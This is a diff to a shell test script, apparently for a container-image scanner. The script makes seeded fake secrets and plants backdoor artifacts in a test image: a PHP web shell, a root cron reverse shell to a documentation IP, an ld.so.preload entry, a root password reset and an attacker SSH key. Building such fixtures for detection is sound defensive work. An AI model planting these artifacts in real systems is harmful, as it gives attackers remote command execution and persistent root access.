@@ -36,7 +36,7 @@ umask 022
 SEED=${LAYERHOUND_TEST_SEED:-$(python3 -c 'import secrets; print(secrets.randbits(48))')}
 echo "$0: seed $SEED (LAYERHOUND_TEST_SEED=$SEED replays these values)" >&2
 printf '%s\n' "$SEED" >"$OUT/seed.txt"
-read -r KEY_ID SECRET_KEY DB_PASSWORD STRIPE_KEY NGROK_TOKEN MYSQL_PASSWORD < <(python3 - "$SEED" <<'EOF'
+read -r KEY_ID SECRET_KEY DB_PASSWORD STRIPE_KEY NGROK_TOKEN MYSQL_PASSWORD ROOT_PASSWORD SS_PASSWORD SSH_KEY_TAIL < <(python3 - "$SEED" <<'EOF'
 import random, string, sys
 draw = random.Random(int(sys.argv[1]))
 def rand(n, alphabet):
@@ -50,6 +50,9 @@ print(
     "sk_live_51" + rand(99, alnum),
     "2" + rand(26, alnum) + "_" + rand(21, alnum),
     rand(18, alnum),
+    rand(12, alnum),
+    rand(16, alnum),
+    rand(43, alnum),
 )
 EOF
 )
@@ -85,11 +88,11 @@ printf 'plugin new\n' >"$M/opt/plugins/new.conf"
 printf '<?php if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); } ?>\n' >"$M/var/www/html/status.php"
 printf '*/5 * * * * root bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\n' >"$M/etc/cron.d/sync"
 printf '/usr/local/lib/libsysupdate.so\n' >"$M/etc/ld.so.preload"
-printf '#!/bin/sh\necho "root:%s" | chpasswd\nexec "$@"\n' "$(rand 12 "$ALNUM")" >"$M/app/run.sh"
+printf '#!/bin/sh\necho "root:%s" | chpasswd\nexec "$@"\n' "$ROOT_PASSWORD" >"$M/app/run.sh"
 mkdir -p "$M/etc/shadowsocks-libev"
 printf '{\n  "server": "203.0.113.61",\n  "server_port": 8388,\n  "password": "%s",\n  "method": "chacha20-ietf-poly1305"\n}\n' \
-    "$(rand 16 "$ALNUM")" >"$M/etc/shadowsocks-libev/config.json"
-printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s attacker@build\n' "$(rand 43 "$ALNUM")" >"$M/root/.ssh/authorized_keys"
+    "$SS_PASSWORD" >"$M/etc/shadowsocks-libev/config.json"
+printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s attacker@build\n' "$SSH_KEY_TAIL" >"$M/root/.ssh/authorized_keys"
 "${B[@]}" umount "$ctr" >/dev/null
 "${B[@]}" config --env HTTPS_PROXY=http://198.51.100.7:3128 \
     --cmd "[\"sh\", \"-c\", \"mysql -h db -u shop -p$MYSQL_PASSWORD shop < /app/init.sql\"]" "$ctr"
